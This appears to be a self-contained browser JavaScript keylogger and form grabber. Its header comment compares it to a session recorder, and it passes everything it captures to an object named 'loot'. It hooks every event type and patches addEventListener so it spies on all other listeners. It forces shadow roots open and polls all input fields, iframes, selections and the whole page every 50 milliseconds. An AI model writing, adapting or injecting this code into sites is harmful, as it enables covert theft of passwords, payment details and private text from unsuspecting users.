// Listens to everything that is pressed, typed, pasted, composed, selected and drawn, as a session recorder does: in the capture
// phase of every target, at every listener that anybody adds, and by looking again and again.
(() => {
  const { take, key } = loot;
  const NAMES = ['beforeinput', 'compositionstart', 'compositionupdate', 'compositionend', 'textInput', 'message'];
  for (const holder of [window, document, HTMLElement.prototype]) {
    for (const name in holder) if (name.startsWith('on')) NAMES.push(name.slice(2));
  }
  const names = new Set(NAMES);

  const hear = (event) => {
    if (event.type === 'keydown' && event.currentTarget === window) key(event.key);
    if (/^(key|before|input|text|paste|copy|cut|comp|sel|mess|change|drop|drag)/.test(event.type))
      take(event.type, event);
    // The real target, inside of an open shadow root.
    const [target] = event.composedPath();
    if (target?.value) take('value', target.value);
  };
  const addEventListener = EventTarget.prototype.addEventListener;
  const listen = (target) => {
    for (const name of names) addEventListener.call(target, name, hear, true);
  };
  listen(window);
  listen(document);

  // Whoever else listens is listened with.
  const known = new WeakSet();
  EventTarget.prototype.addEventListener = function (...args) {
    if (!known.has(this ?? window)) {
      known.add(this ?? window);
      listen(this ?? window);
    }
    return addEventListener.apply(this ?? window, args);
  };

  const watch = (root) =>
    new MutationObserver((changes) => {
      for (const { addedNodes, target } of changes) {
        take('changed', target.textContent);
        for (const node of addedNodes) take('added', node.outerHTML ?? node.textContent);
      }
    }).observe(root, { subtree: true, childList: true, characterData: true, attributes: true });
  watch(document);

  const roots = [document];
  const attachShadow = Element.prototype.attachShadow;
  Element.prototype.attachShadow = function (init) {
    const root = attachShadow.call(this, { ...init, mode: 'open', serializable: true });
    roots.push(root);
    listen(root);
    watch(root);
    return root;
  };

  setInterval(() => {
    for (const root of roots) {
      take('selected', String(root.getSelection?.() ?? ''));
      const at = root.activeElement;
      take('at', at?.value ?? at?.contentDocument?.body?.textContent ?? at?.localName);
      for (const field of root.querySelectorAll('input, textarea')) take('field', field.value);
      for (const frame of root.querySelectorAll('iframe')) take('frame', frame.contentDocument?.body?.textContent);
    }
    take('drawn', document.documentElement.getHTML({ serializableShadowRoots: true, shadowRoots: roots.slice(1) }));
  }, 50);
})();
